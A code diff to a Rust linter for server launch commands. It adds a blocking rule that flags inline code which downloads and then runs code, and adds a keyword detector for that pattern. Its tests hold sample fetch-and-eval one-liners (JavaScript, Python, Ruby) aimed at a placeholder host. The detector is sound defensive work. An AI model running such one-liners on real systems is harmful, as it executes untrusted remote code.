@@ -318,9 +318,49 @@ pub fn check(argv: &[Arg<'_>], sink: &mut Sink<'_>) {
         if let Some(flag) = hit {
             sink.add("STDIO-001", Level::High, flag.span, format!("`{}` is given inline code with `{}`", a.text, flag.text))
                 .help("launch the server's executable or package directly, with its arguments as separate elements");
+            if let Some(code) = rest.iter().find(|r| fetches_and_runs(r.text)) {
+                sink.add(
+                    "STDIO-003",
+                    Level::Block,
+                    code.span,
+                    format!("the inline code of `{}` downloads code and runs it", a.text),
+                )
+                .help("ship the server's code in the bundle or pin its package; never run what a URL serves");
+            }
             return;
         }
     }
+}
+
+/// Whether inline code both names a URL and evaluates or runs what it gets: `exec(urlopen(…))`,
+/// `fetch(…).then(eval)`, `eval URI.open(…)`, `iex (iwr …)`, `load(http…)`.
+fn fetches_and_runs(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    const RUNNERS: &[&str] = &[
+        "eval",
+        "exec(",
+        "exec ",
+        "function(",
+        "import(",
+        "iex",
+        "invoke-expression",
+        "runpy",
+        "load(",
+        "loadstring",
+        "compile(",
+        "system(",
+        "popen",
+        "spawn",
+        "child_process",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+    ];
+    ["http://", "https://", "ftp://"]
+        .iter()
+        .any(|u| lower.contains(u))
+        && RUNNERS.iter().any(|r| lower.contains(r))
 }
 
 /// The option of `rest` that gives inline code, read with grammar `g`.
@@ -426,6 +466,21 @@ mod tests {
                 span: Span::default(),
             })
             .collect()
+    }
+
+    #[test]
+    fn inline_code_that_downloads_and_runs() {
+        assert!(fetches_and_runs(
+            "fetch('https://x.example/s.js').then(r=>r.text()).then(eval)"
+        ));
+        assert!(fetches_and_runs(
+            "import urllib.request;exec(urllib.request.urlopen('https://x.example/p').read())"
+        ));
+        assert!(fetches_and_runs(
+            "eval URI.open('https://x.example/s.rb').read"
+        ));
+        assert!(!fetches_and_runs("print('see https://x.example for docs')"));
+        assert!(!fetches_and_runs("import server; server.main()"));
     }
 
     #[test]
